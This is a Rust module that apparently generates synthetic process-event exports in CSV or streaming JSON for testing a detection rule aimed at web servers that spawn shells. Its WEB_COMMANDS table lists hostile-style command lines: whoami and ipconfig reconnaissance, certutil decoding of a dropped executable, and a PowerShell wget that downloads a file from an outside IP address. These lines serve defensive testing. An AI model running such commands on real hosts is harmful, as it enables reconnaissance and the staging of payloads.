//! Makes exports with the shape of real ones: few programs and accounts, command lines of which about half are unique,
//! processes that start many others, and now and then a child of a web server that the shipped rule finds, or just
//! misses.
//!
//! An event depends on its number only, so any part of a stretch of days can be written again, byte for byte: that is
//! what exports that overlap look like.

use std::collections::BTreeSet;
use std::fmt::{Display, Write as _};
use std::fs::File;
use std::io::{BufWriter, Write};
use std::ops::Range;
use std::path::Path;

use chrono::DateTime;

use super::Result;
use super::programs::{Program, known_programs};
use super::random::Random;

/// 100 ns.
type Ticks = i64;

const SECOND: Ticks = 10_000_000;
const DAY: Ticks = 86_400 * SECOND;
/// 2026-05-03, when the first event happens.
const START: Ticks = 1_777_766_400 * SECOND;
/// As many devices as bring so many events each on one day, so that small exports repeat themselves as large ones do.
const EVENTS_OF_DEVICE: u64 = 285;
const LEAST_DEVICES: u64 = 32;
/// One device in so many is a web server.
const SERVERS: u64 = 8;
const PROGRAMS: usize = 350;
/// How many processes of a device start others on one day.
const INITIATORS: u64 = 12;
/// One event in so many is a child of a web server, and one of those in `LATE` is told of days later.
const WEB: u64 = 1000;
const LATE: u64 = 20;

/// In published order.
const COLUMNS: &str = "Timestamp DeviceId DeviceName ActionType FileName FolderPath SHA1 SHA256 MD5 FileSize \
ProcessVersionInfoCompanyName ProcessVersionInfoProductName ProcessVersionInfoProductVersion \
ProcessVersionInfoInternalFileName ProcessVersionInfoOriginalFileName ProcessVersionInfoFileDescription ProcessId \
ProcessCommandLine ProcessIntegrityLevel ProcessTokenElevation ProcessCreationTime AccountDomain AccountName \
AccountSid AccountUpn AccountObjectId LogonId InitiatingProcessAccountDomain InitiatingProcessAccountName \
InitiatingProcessAccountSid InitiatingProcessAccountUpn InitiatingProcessAccountObjectId InitiatingProcessLogonId \
InitiatingProcessIntegrityLevel InitiatingProcessTokenElevation InitiatingProcessSHA1 InitiatingProcessSHA256 \
InitiatingProcessMD5 InitiatingProcessFileName InitiatingProcessFileSize InitiatingProcessVersionInfoCompanyName \
InitiatingProcessVersionInfoProductName InitiatingProcessVersionInfoProductVersion \
InitiatingProcessVersionInfoInternalFileName InitiatingProcessVersionInfoOriginalFileName \
InitiatingProcessVersionInfoFileDescription InitiatingProcessId InitiatingProcessCommandLine \
InitiatingProcessCreationTime InitiatingProcessFolderPath InitiatingProcessParentId InitiatingProcessParentFileName \
InitiatingProcessParentCreationTime InitiatingProcessSignerType InitiatingProcessSignatureStatus ReportId \
AppGuardContainerId AdditionalFields CreatedProcessSessionId InitiatingProcessRemoteSessionDeviceName \
InitiatingProcessRemoteSessionIP InitiatingProcessSessionId InitiatingProcessUniqueId \
IsInitiatingProcessRemoteSession IsProcessRemoteSession ProcessRemoteSessionDeviceName ProcessRemoteSessionIP \
ProcessUniqueId";

/// Columns whose values JSON writes without quotes.
const BARE: [&str; 12] = [
    "FileSize",
    "ProcessId",
    "LogonId",
    "InitiatingProcessLogonId",
    "InitiatingProcessFileSize",
    "InitiatingProcessId",
    "InitiatingProcessParentId",
    "ReportId",
    "CreatedProcessSessionId",
    "InitiatingProcessSessionId",
    "IsInitiatingProcessRemoteSession",
    "IsProcessRemoteSession",
];

/// An initiating process, its parent, and whether the rule takes one of them for a web server.
const WEB_PARENTS: [(&str, &str, bool); 16] = [
    ("w3wp.exe", "svchost.exe", true),
    ("w3wp.exe", "svchost.exe", true),
    ("w3wp.exe", "svchost.exe", true),
    ("w3wp.exe", "svchost.exe", true),
    ("httpd.exe", "httpd.exe", true),
    ("beasvc.exe", "services.exe", true),
    ("Tomcat9.exe", "services.exe", true),
    ("TOMCAT8W.EXE", "explorer.exe", true),
    ("cmd.exe", "w3wp.exe", true),
    ("java.exe", "tomcat7.exe", true),
    ("W3WP.EXE", "svchost.exe", false),
    ("Httpd.exe", "services.exe", false),
    ("cmd.exe", "BEASVC.EXE", false),
    ("nginx.exe", "services.exe", false),
    ("apache-tomcat.exe", "services.exe", false),
    ("java.exe", "xhttpd.exe", false),
];

/// A child's file name, and whether it is one of the rule's shells.
const WEB_CHILDREN: [(&str, bool); 10] = [
    ("cmd.exe", true),
    ("cmd.exe", true),
    ("cmd.exe", true),
    ("cmd.exe", true),
    ("powershell.exe", true),
    ("CMD.EXE", true),
    ("PowerShell.exe", true),
    ("pwsh.exe", false),
    ("cmd.exe.exe", false),
    ("conhost.exe", false),
];

/// A command line, and whether the rule looks for a word of it. `{}` stands for a number.
const WEB_COMMANDS: [(&str, bool); 20] = [
    (r"cmd.exe /c whoami", true),
    (r#""cmd.exe" /c "whoami /groups & ipconfig /all""#, true),
    (r"C:\Windows\System32\WHOAMI.EXE /user > C:\inetpub\out{}.txt", true),
    (r"cmd /c ping -n 2 10.7.0.{}", true),
    (r"cmd /c PING.EXE 10.7.{}.1,exit", true),
    (r"cmd /c certutil -decode C:\Users\Public\{}.b64 C:\Users\Public\{}.exe", true),
    (r"cmd /c copy C:\in\{}.exe %TEMP%\{}.exe", true),
    (r"cmd /c start %TeMp%\job{}.exe", true),
    (r#"powershell -c "wget http://198.51.100.4/{} -OutFile C:\Users\Public\{}.zip""#, true),
    (r"powershell -nop -c (SystemInfo)", true),
    (r#"cmd.exe /c "timeout /t {} & del C:\Temp\{}.log""#, true),
    (r"cmd.exe /c build.bat --timeout={}", true),
    (r"cmd.exe /c shipping.exe --order {}", false),
    (r#"cmd.exe /c "set timeouts={} && start.bat""#, false),
    (r"cmd.exe /c pinger.exe 10.7.0.{}", false),
    (r"cmd.exe /c echo %temperature{}%", false),
    (r"cmd.exe /c dir %TMP%\{}", false),
    (r"cmd.exe /c ipconfig64.exe /{}", false),
    (r"powershell.exe -File C:\app\systeminformation.ps1 -Run {}", false),
    (r"cmd.exe /c echo größe,{} >> C:\app\größen.csv", false),
];

/// How an export is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Form {
    /// As the portal exports it.
    Csv,
    /// Lines of JSON in the envelope of the streaming API.
    Streaming,
}

/// What the shipped rule has to find: how many devices, and events of the last seven days.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Found {
    /// Devices with at least one such event.
    pub devices: u64,
    /// Such events.
    pub matches: u64,
}

/// A world of devices and programs in which `per_day` events happen each day, day after day.
pub struct World {
    per_day: u64,
    devices: u64,
    programs: Vec<Program>,
    columns: Vec<&'static str>,
}

struct Account {
    domain: &'static str,
    name: String,
    sid: String,
    upn: String,
    object_id: String,
}

/// A process that starts others.
struct Initiator<'w> {
    program: &'w Program,
    id: u64,
    command: String,
    created: Ticks,
    parent: (u64, &'static str, Ticks),
    is_system: bool,
    logon: u64,
}

struct WebChild {
    parents: (&'static str, &'static str, bool),
    child: (&'static str, bool),
    command: (&'static str, bool),
    device: u64,
    late: Ticks,
}

impl WebChild {
    fn is_looked_for(&self) -> bool {
        self.parents.2 && self.child.1 && self.command.1
    }
}

impl World {
    /// A world where so much happens in a day.
    pub fn new(per_day: u64) -> Self {
        let columns = COLUMNS.split_ascii_whitespace().collect();
        let devices = (per_day / EVENTS_OF_DEVICE).max(LEAST_DEVICES);
        Self { per_day: per_day.max(1), devices, programs: known_programs(PROGRAMS), columns }
    }

    /// The numbers of the events of a stretch of days, the first of which is day 0.
    pub fn days(&self, days: Range<u64>) -> Range<u64> {
        days.start * self.per_day..days.end * self.per_day
    }

    /// The numbers of one day's events and of the 90 minutes before it.
    pub fn day_with_overlap(&self, day: u64) -> Range<u64> {
        let events = self.days(day..day + 1);
        events.start.saturating_sub(self.per_day / 16)..events.end
    }

    /// When the window of the shipped rule begins in a case that holds the events up to `end`.
    pub fn since(&self, end: u64) -> String {
        Time(self.window_start(end)).to_string()
    }

    fn window_start(&self, end: u64) -> Ticks {
        self.time(end - 1) - 7 * DAY
    }

    /// What the shipped rule has to find in a case that holds the events up to `end`.
    pub fn find(&self, end: u64) -> Found {
        let since = self.window_start(end);
        let (mut devices, mut matches) = (BTreeSet::new(), 0);
        for event in 0..end {
            if let Some(web) = self.web_child(event)
                && web.is_looked_for()
                && self.time(event) - web.late > since
            {
                devices.insert(web.device);
                matches += 1;
            }
        }
        Found { devices: devices.len() as u64, matches }
    }

    /// Writes events into a file.
    pub fn write(&self, path: &Path, form: Form, events: Range<u64>) -> Result<()> {
        let mut out = BufWriter::with_capacity(1 << 20, File::create(path)?);
        if form == Form::Csv {
            writeln!(out, "{}", self.columns.join(","))?;
        }
        let mut row = Row::default();
        for event in events {
            row.clear();
            self.fill(&mut row, event);
            match form {
                Form::Csv => row.write_csv(&mut out)?,
                Form::Streaming => row.write_streaming(&mut out, &self.columns)?,
            }
        }
        out.flush()?;
        Ok(())
    }

    fn time(&self, event: u64) -> Ticks {
        let step = DAY / self.per_day.cast_signed();
        let jitter = Random::of(&[1, event]).below(step.cast_unsigned().max(1));
        START + event.cast_signed() * step + jitter.cast_signed()
    }

    fn web_child(&self, event: u64) -> Option<WebChild> {
        let mut random = Random::of(&[2, event]);
        (random.below(WEB) == 0).then(|| WebChild {
            parents: *random.pick(&WEB_PARENTS),
            child: *random.pick(&WEB_CHILDREN),
            command: *random.pick(&WEB_COMMANDS),
            device: random.below(self.devices / SERVERS) * SERVERS,
            late: if random.below(LATE) == 0 { (8 + random.below(10)).cast_signed() * DAY } else { 0 },
        })
    }

    fn initiator(&self, device: u64, day: u64, random: &mut Random) -> Initiator<'_> {
        let number = random.below(INITIATORS);
        let mut random = Random::of(&[3, device, day, number]);
        let program = self.pick_program(&mut random);
        let created = START + day.cast_signed() * DAY - random.below(400_000).cast_signed() * SECOND;
        let is_system = number.is_multiple_of(3);
        Initiator {
            program,
            id: 4 * random.below(8000),
            command: program.command(&mut random),
            created,
            parent: (
                4 * random.below(2000),
                *random.pick(&["services.exe", "svchost.exe", "explorer.exe", "userinit.exe"]),
                created - random.below(90_000).cast_signed() * SECOND,
            ),
            is_system,
            logon: if is_system { 999 } else { 100_000 + random.below(90_000_000) },
        }
    }

    /// The first programs run far more often than the last ones.
    fn pick_program(&self, random: &mut Random) -> &Program {
        let end = self.programs.len() as u64;
        let mut number = random.below(end);
        for _ in 0..3 {
            number = number.min(random.below(end));
        }
        &self.programs[number as usize]
    }

    fn fill(&self, row: &mut Row, event: u64) {
        let mut random = Random::of(&[4, event]);
        let web = self.web_child(event);
        let day = event / self.per_day;
        let device = match &web {
            Some(web) => web.device,
            None => random.below(self.devices).min(random.below(self.devices + self.devices / 2)),
        };
        let time = self.time(event) - web.as_ref().map_or(0, |web| web.late);
        let initiator = self.initiator(device, day, &mut random);
        let made;
        let (program, command) = match &web {
            None => {
                let program = self.pick_program(&mut random);
                (program, program.command(&mut random))
            }
            Some(web) => {
                made = Program::system(web.child.0);
                (&made, web.command.0.replace("{}", &random.below(250).to_string()))
            }
        };
        let level = if initiator.is_system { "System" } else { *random.pick(&["Medium", "Medium", "High"]) };
        let account = account_of(device, initiator.is_system);

        row.push(Time(time));
        row.push(DeviceId(device));
        row.push(format_args!(
            "{}-{device:04}.corp.example.com",
            if device.is_multiple_of(SERVERS) { "srv" } else { "pc" }
        ));
        row.push("ProcessCreated");
        row.push_file(program);
        row.push_version(program);
        row.push(4 * random.below(8000));
        row.push(command);
        row.push_token(level);
        row.push(Time(time - random.below(SECOND.cast_unsigned() / 10).cast_signed()));
        row.push_account(&account, initiator.logon);
        row.push_account(&account, initiator.logon);
        row.push_token(level);
        self.fill_initiator(row, &initiator, web.map(|web| web.parents));
        row.push(100 + event); // ReportId
        row.push("");
        row.push(if random.below(50) == 0 { r#"{"Elevated":"yes, once"}"# } else { "" });
        let session = u8::from(!initiator.is_system);
        row.push(session);
        row.push("");
        row.push("");
        row.push(session);
        row.push(2_533_274_790_395_904 + initiator.id + (device << 20));
        row.push("false");
        row.push("false");
        row.push("");
        row.push("");
        row.push(2_533_274_790_395_904 + (event << 8));
    }

    fn fill_initiator(
        &self,
        row: &mut Row,
        initiator: &Initiator<'_>,
        web: Option<(&'static str, &'static str, bool)>,
    ) {
        let made;
        let (program, parent, command) = match web {
            None => (initiator.program, initiator.parent.1, initiator.command.clone()),
            Some((name, parent, _)) => {
                made = Program::system(name);
                (&made, parent, format!(r#""C:\web\{name}" -pool shop"#))
            }
        };
        row.push(&program.sha1);
        row.push(&program.sha256);
        row.push(&program.md5);
        row.push(&program.file);
        row.push(program.size);
        row.push_version(program);
        row.push(initiator.id);
        row.push(command);
        row.push(Time(initiator.created));
        row.push(program.path.to_lowercase());
        row.push(initiator.parent.0);
        row.push(parent);
        row.push(Time(initiator.parent.2));
        row.push(if program.company.starts_with("Microsoft") { "OsVendor" } else { "Unknown" });
        row.push("Valid");
    }
}

fn account_of(device: u64, is_system: bool) -> Account {
    if is_system {
        let (name, sid) = ("system".to_owned(), "S-1-5-18".to_owned());
        return Account { domain: "nt authority", name, sid, upn: String::new(), object_id: String::new() };
    }
    let mut random = Random::of(&[5, device]);
    let first = random.pick(&["amélie", "bo", "carla", "đorđe", "emre", "freya", "günter", "hana"]);
    let name = format!("{first}.{}{device}", random.pick(&["lund", "møller", "okoye", "peters", "silva"]));
    Account {
        domain: "CORP",
        sid: format!("S-1-5-21-2041336118-1577238905-652003330-{}", 1100 + device),
        upn: format!("{name}@example.com"),
        object_id: random.guid(),
        name,
    }
}

/// An instant as exports write it.
struct Time(Ticks);

impl Display for Time {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let (second, ticks) = (self.0.div_euclid(SECOND), self.0.rem_euclid(SECOND));
        let whole = DateTime::from_timestamp(second, 0).unwrap_or_default();
        write!(f, "{}.{ticks:07}Z", whole.format("%Y-%m-%dT%H:%M:%S"))
    }
}

struct DeviceId(u64);

impl Display for DeviceId {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&Random::of(&[6, self.0]).hexadecimal(40))
    }
}

/// The cells of one row.
#[derive(Default)]
struct Row {
    text: String,
    ends: Vec<usize>,
}

impl Row {
    fn clear(&mut self) {
        self.text.clear();
        self.ends.clear();
    }

    fn push(&mut self, cell: impl Display) {
        // Writing into a text cannot fail.
        let _ = write!(self.text, "{cell}");
        self.ends.push(self.text.len());
    }

    fn push_file(&mut self, program: &Program) {
        self.push(&program.file);
        self.push(&program.path);
        self.push(&program.sha1);
        self.push(&program.sha256);
        self.push(&program.md5);
        self.push(program.size);
    }

    fn push_version(&mut self, program: &Program) {
        self.push(&program.company);
        self.push(&program.product);
        self.push(&program.version);
        self.push(program.file.trim_end_matches(".exe").to_lowercase());
        self.push(program.file.to_uppercase());
        self.push(format_args!("{} process", program.product));
    }

    fn push_token(&mut self, level: &str) {
        self.push(level);
        self.push(if level == "High" { "TokenElevationTypeFull" } else { "TokenElevationTypeDefault" });
    }

    fn push_account(&mut self, account: &Account, logon: u64) {
        self.push(account.domain);
        self.push(&account.name);
        self.push(&account.sid);
        self.push(&account.upn);
        self.push(&account.object_id);
        self.push(logon);
    }

    fn cells(&self) -> impl Iterator<Item = &str> {
        let starts = std::iter::once(0).chain(self.ends.iter().copied());
        starts.zip(&self.ends).map(|(start, end)| &self.text[start..*end])
    }

    fn write_csv(&self, out: &mut impl Write) -> std::io::Result<()> {
        for (number, cell) in self.cells().enumerate() {
            if number > 0 {
                out.write_all(b",")?;
            }
            if cell.contains(['"', ',', '\n']) {
                write!(out, "\"{}\"", cell.replace('"', "\"\""))?;
            } else {
                out.write_all(cell.as_bytes())?;
            }
        }
        out.write_all(b"\n")
    }

    fn write_streaming(&self, out: &mut impl Write, columns: &[&str]) -> Result<()> {
        let time = self.cells().next().unwrap_or_default();
        write!(
            out,
            r#"{{"time":"{time}","tenantId":"c2a6e3f1-4b0d-4a77-9a55-1f0e8d2b7c66","operationName":"Publish","#
        )?;
        out.write_all(br#""category":"AdvancedHunting-DeviceProcessEvents","properties":{"#)?;
        for (number, (column, cell)) in columns.iter().zip(self.cells()).enumerate() {
            let comma = if number > 0 { "," } else { "" };
            write!(out, "{comma}\"{column}\":")?;
            match cell {
                "" => out.write_all(b"null")?,
                bare if BARE.contains(column) => out.write_all(bare.as_bytes())?,
                text => serde_json::to_writer(&mut *out, text)?,
            }
        }
        out.write_all(b"}}\n")?;
        Ok(())
    }
}
